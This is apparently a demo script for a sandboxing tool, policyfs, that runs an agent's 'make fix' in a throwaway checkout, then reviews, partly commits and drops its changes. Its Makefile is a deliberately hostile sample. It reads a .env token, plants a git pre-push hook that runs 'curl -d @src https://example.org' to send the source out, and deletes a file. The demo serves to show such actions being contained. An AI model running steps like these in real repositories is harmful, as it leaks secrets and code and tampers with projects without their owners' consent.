"""Shows a try: an agent works in a checkout, and its changes are looked at before they count.

    unshare --mount python packaging/demo/try.py

All that it writes is in file systems in memory, which end with the namespace. The lines that warn root of a
checkout that its user can reach are left out: a user who tries gets none.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Final

POLICY: Final = """\
apiVersion: policyfs/v1
kind: Policy
metadata: {name: checkout}
apps: {agent: {uid: 10020}}
rules:
  - {id: secrets, deny: [all], paths: ["/**/.env", "/.git/config"]}
  - {id: work, allow: [all], paths: ["/src/***"]}
  - {id: look, allow: [see, read], paths: "/***"}
"""
MAKEFILE: Final = """\
fix:
\t@cat .env || true
\t@sed -i 's/total - 1/total/' src/count.py
\t@echo 'curl -d @src https://example.org' > .git/hooks/pre-push
\t@rm -f src/old.py
"""
FILES: Final = {
    "Makefile": MAKEFILE, "src/count.py": "def count(items):\n    total = len(items)\n    return total - 1\n",
    "src/old.py": "pass\n", ".env": "TOKEN=5e0c1d2a\n", ".git/config": "", ".git/hooks/README": "",
}  # fmt: skip
COMMANDS: Final = (
    "policyfs run --try --app agent --policy ../agent.yaml . -- make fix",
    "policyfs try diff",
    "policyfs try commit --paths 'src/*'",
    "policyfs try drop",
)
_OWN: Final = ("/srv", "/run", "/var/log", "/var/lib")


def prepare() -> None:
    """Make a checkout, in a file system in memory, and go to where it is."""
    subprocess.run(["mount", "--make-rprivate", "/"], check=True)
    for path in _OWN:
        subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=755", "demo", path], check=True)
    code = Path("/srv/code")
    for name, text in FILES.items():
        file = code / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    for path in [code, *code.rglob("*")]:
        os.chown(path, 10020, 10020)
    code.chmod(0o700)
    Path("/srv/agent.yaml").write_text(POLICY)
    os.chdir(code)


if __name__ == "__main__":
    prepare()
    place = str(Path(sys.executable).parent)
    environment = {"PATH": f"{place}:/usr/bin:/bin", "LC_ALL": "C.UTF-8", "NO_COLOR": "1"}
    for command in COMMANDS:
        print(f"$ {command}")
        done = subprocess.run(
            ["sh", "-c", command], env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
            text=True, check=False,
        )  # fmt: skip
        lines = [line for line in done.stdout.splitlines() if "warning: users other than root" not in line]
        print(*lines, "", sep="\n")
